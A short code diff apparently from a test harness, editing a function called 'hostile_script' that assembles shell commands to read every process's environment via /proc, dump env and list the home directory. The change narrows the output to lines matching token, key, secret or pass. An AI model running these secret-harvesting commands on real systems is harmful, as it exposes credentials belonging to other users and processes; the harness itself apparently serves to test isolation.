@@ -74,7 +74,10 @@ def hostile_script(world: RunWorld, evil: str) -> str:
         [
             "set +e",
             "echo '== environ'",
-            f"for p in $(ls /proc | grep -E '^[0-9]+$'); do {steal}; done | sort -u",
+            # Only what names a secret: on a busy machine every process's whole environment
+            # is longer than the Harness keeps of one command's output.
+            f"for p in $(ls /proc | grep -E '^[0-9]+$'); do {steal}; done "
+            "| grep -iE 'token|key|secret|pass' | sort -u",
             "echo '== env'",
             "env | sort",
             "echo '== home'",
